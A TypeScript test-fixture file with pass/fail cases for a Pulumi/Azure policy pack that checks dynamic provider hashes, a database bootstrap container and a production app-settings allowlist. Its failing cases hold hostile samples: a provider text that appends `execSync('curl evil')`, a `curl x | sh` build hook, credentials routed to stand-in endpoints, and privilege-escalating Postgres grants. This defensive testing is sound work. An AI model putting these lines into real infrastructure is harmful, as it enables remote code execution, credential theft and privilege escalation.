/**
 * Cases for the dynamic resources' rules: a provider text the pack knows (by sha256), and the bootstrap run's
 * container group (image, identity, SQL). The run carries the program's own provider text and SQL shapes.
 */
import { BOOTSTRAP_RUN_PROVIDER } from "../components/bootstrap-run";
import { SETTLE_PROVIDER } from "../components/settle";
import type { EvaluatedResource } from "../policy/evaluate";
import { add, APP_PRINCIPAL, appSetting, type CaseTable, KV_REF, type Mutation, res, RG, RG_ID } from "./policy-fixture";

export const PINNED = "mcr.microsoft.com/azure-cli:2.67.0@sha256:6d7791e595999664478813ee6da9b340dc087be87cce9f581ded83cc4bf15ca0";
const BOOTSTRAP_NAME = "id-amplifier-db-bootstrap-prod";
const uaiId = (name: string) => `${RG_ID}/providers/Microsoft.ManagedIdentity/userAssignedIdentities/${name}`;

/** SQL as components/database-roles.ts and scripts/app-grants.sql write it, in the shapes the rule reads. */
const ROLE_SQL = `PERFORM pgaadauth_create_principal_with_oid('amplifier_app', '${APP_PRINCIPAL}', 'service', false, false);\nEXECUTE format('GRANT %I TO CURRENT_USER', r);`;
const GRANTS_SQL = "ALTER ROLE amplifier_app NOCREATEDB NOCREATEROLE;\nGRANT USAGE ON SCHEMA amplifier TO amplifier_app;\nGRANT amplifier_owner TO amplifier_app;\nGRANT amplifier_admin TO CURRENT_USER;";

interface RunShape {
  image?: string;
  identity?: Record<string, any>;
  sql?: string[];
  /** BOOTSTRAP_STEPS as given, instead of encoding `sql`. */
  steps?: string;
  /** The run's Entra ID and ARM endpoints, where it sends its credential. */
  endpoints?: { loginEndpoint?: string; armEndpoint?: string };
}

const dynamic = (type: string, name: string, provider: unknown, inputs: Record<string, any> = {}): EvaluatedResource => ({
  type: `pulumi-nodejs:dynamic/amplifier:${type}`,
  name,
  urn: `urn:pulumi:prod::amplifier-infra::pulumi-nodejs:dynamic/amplifier:${type}::${name}`,
  inputs: { ...inputs, __provider: provider },
});

/** The bootstrap identity, its Entra admin entry and the run, compliant unless `shape` changes them. */
export function bootstrapRun(shape: RunShape = {}, provider: unknown = BOOTSTRAP_RUN_PROVIDER): Mutation {
  const steps = shape.steps ?? Buffer.from(JSON.stringify((shape.sql ?? [ROLE_SQL, GRANTS_SQL]).map((sql) => ({ database: "amplifier_prod", sql })))).toString("base64");
  const group = {
    location: "eastus",
    identity: shape.identity ?? { type: "UserAssigned", userAssignedIdentities: { [uaiId(BOOTSTRAP_NAME)]: {} } },
    properties: {
      osType: "Linux",
      restartPolicy: "Never",
      containers: [{ name: "bootstrap", properties: { image: shape.image ?? PINNED, environmentVariables: [{ name: "PGUSER", value: BOOTSTRAP_NAME }, { name: "BOOTSTRAP_STEPS", value: steps }] } }],
    },
  };
  return add(
    res("managedidentity:UserAssignedIdentity", "database-bootstrap-identity", { resourceName: BOOTSTRAP_NAME, resourceGroupName: RG, location: "eastus" }),
    res("dbforpostgresql:AdministratorsMicrosoftEntra", "database-bootstrap-entra-admin", {
      objectId: "22222222-3333-4444-5555-666666666666",
      principalName: BOOTSTRAP_NAME,
      principalType: "ServicePrincipal",
      serverName: "amplifier-db-prod",
      resourceGroupName: RG,
    }),
    dynamic("BootstrapRun", "database-bootstrap-run", provider, { key: "k", group, loginEndpoint: "https://login.microsoftonline.com", armEndpoint: "https://management.azure.com", ...shape.endpoints }),
  );
}

const RUN = "database-bootstrap-run";
const appUai = uaiId("id-amplifier-prod");

export const DYNAMIC_CASES: CaseTable = {
  "dynamic-provider-known": {
    pass: [
      { label: "the settle wait with the program's provider text", change: add(dynamic("Settle", "postgres-settle", SETTLE_PROVIDER, { targetId: "x", seconds: 60 })) },
      { label: "the bootstrap run with the program's provider text", change: bootstrapRun() },
    ],
    fail: [
      { label: "the bootstrap run with another provider text", change: bootstrapRun({}, `${BOOTSTRAP_RUN_PROVIDER}\nrequire("child_process").execSync("curl evil");`), resource: RUN, found: "sha256 " },
      { label: "the settle text under the bootstrap run's type", change: bootstrapRun({}, SETTLE_PROVIDER), resource: RUN, found: "sha256 " },
      { label: "a settle step without provider text", change: add(dynamic("Settle", "postgres-settle", undefined, { targetId: "x", seconds: 60 })), resource: "postgres-settle", found: "no provider text" },
      {
        label: "a provider text under an azure-native type",
        change: add(res("keyvault:Secret", "sneaky", { secretName: "x", vaultName: "kv-amplifier-prod", resourceGroupName: RG, properties: { value: "v", contentType: "text/plain" }, __provider: "exports.handler = () => ({})" })),
        resource: "sneaky",
      },
    ],
  },
  "bootstrap-run-contained": {
    pass: [
      { label: "a tag from another registry outside production", stack: { production: false }, change: bootstrapRun({ image: "docker.io/library/python:3.12" }) },
      { label: "a pinned Microsoft image with no tag", change: bootstrapRun({ image: "mcr.microsoft.com/azure-cli@sha256:6d7791e595999664478813ee6da9b340dc087be87cce9f581ded83cc4bf15ca0" }) },
    ],
    fail: [
      { label: "a mutable tag in production", change: bootstrapRun({ image: "mcr.microsoft.com/azure-cli:2.67.0" }), resource: RUN, found: "azure-cli:2.67.0" },
      { label: "another registry, pinned, in production", change: bootstrapRun({ image: `docker.io/x/y:1@sha256:${"a".repeat(64)}` }), resource: RUN, found: "docker.io/x/y" },
      { label: "the app's identity on the group", change: bootstrapRun({ identity: { type: "UserAssigned", userAssignedIdentities: { [appUai]: {} } } }), resource: RUN, found: "id-amplifier-prod" },
      {
        label: "a second identity next to the bootstrap one",
        change: bootstrapRun({ identity: { type: "UserAssigned", userAssignedIdentities: { [uaiId(BOOTSTRAP_NAME)]: {}, [appUai]: {} } } }),
        resource: RUN,
      },
      { label: "a system-assigned identity too", change: bootstrapRun({ identity: { type: "SystemAssigned, UserAssigned", userAssignedIdentities: { [uaiId(BOOTSTRAP_NAME)]: {} } } }), resource: RUN, found: "SystemAssigned" },
      { label: "an identity that administers no server", change: bootstrapRun({ identity: { type: "UserAssigned", userAssignedIdentities: { [uaiId("id-other")]: {} } } }), resource: RUN, found: "id-other" },
      { label: "the app's role created as an Entra administrator", change: bootstrapRun({ sql: [ROLE_SQL.replace("'service', false", "'service', true")] }), resource: RUN, found: "isAdmin true" },
      { label: "azure_pg_admin granted to the app", change: bootstrapRun({ sql: [ROLE_SQL, "GRANT azure_pg_admin TO amplifier_app;"] }), resource: RUN, found: "GRANT azure_pg_admin TO amplifier_app" },
      { label: "the admin login's role granted to the app, in a string", change: bootstrapRun({ sql: [ROLE_SQL, "EXECUTE 'GRANT \"amplifier-db-admins\" TO amplifier_app';"] }), resource: RUN, found: "amplifier-db-admins" },
      { label: "a role granted to the app with admin option", change: bootstrapRun({ sql: [ROLE_SQL, "GRANT amplifier_owner TO amplifier_app WITH ADMIN OPTION;"] }), resource: RUN, found: "WITH ADMIN OPTION" },
      { label: "pg_read_server_files granted to the app", change: bootstrapRun({ sql: [ROLE_SQL, "GRANT pg_read_server_files TO amplifier_app;"] }), resource: RUN, found: "pg_read_server_files" },
      { label: "CREATEROLE given to the app", change: bootstrapRun({ sql: [ROLE_SQL, "ALTER ROLE amplifier_app CREATEROLE;"] }), resource: RUN, found: "CREATEROLE" },
      { label: "CREATEDB given to the app through ALTER USER (an alias of ALTER ROLE)", change: bootstrapRun({ sql: [ROLE_SQL, "ALTER USER amplifier_app CREATEDB;"] }), resource: RUN, found: "ALTER USER amplifier_app CREATEDB" },
      { label: "the credential sent to another login endpoint", change: bootstrapRun({ endpoints: { loginEndpoint: "https://login.example.net" } }), resource: RUN, found: "login.example.net" },
      { label: "the token sent to another ARM endpoint", change: bootstrapRun({ endpoints: { armEndpoint: "https://arm.example.net" } }), resource: RUN, found: "arm.example.net" },
      { label: "steps the pack cannot read", change: bootstrapRun({ steps: "not base64 json" }), resource: RUN, found: "unreadable" },
    ],
  },
};

/** The production app-settings allowlist (policy/rules/app-settings-allowlist.ts). */
export const SETTINGS_ALLOWLIST_CASES: CaseTable = {
  "app-settings-allowlisted": {
    pass: [
      { label: "a model provider's key (a Key Vault reference) in production", change: appSetting("ANTHROPIC_API_KEY", KV_REF) },
      { label: "any other name outside production", stack: { production: false }, change: appSetting("FEATURE_FLAGS", "beta") },
    ],
    fail: [
      { label: "a feature flag in production", change: appSetting("FEATURE_FLAGS", "beta"), resource: "app", found: "FEATURE_FLAGS" },
      { label: "a build hook in production", change: appSetting("PRE_BUILD_COMMAND", "curl x | sh"), resource: "app", found: "PRE_BUILD_COMMAND" },
      { label: "a platform setting in production", change: appSetting("WEBSITE_RUN_FROM_PACKAGE", "https://x.blob.core.windows.net/p.zip"), resource: "app", found: "WEBSITE_RUN_FROM_PACKAGE" },
    ],
  },
};
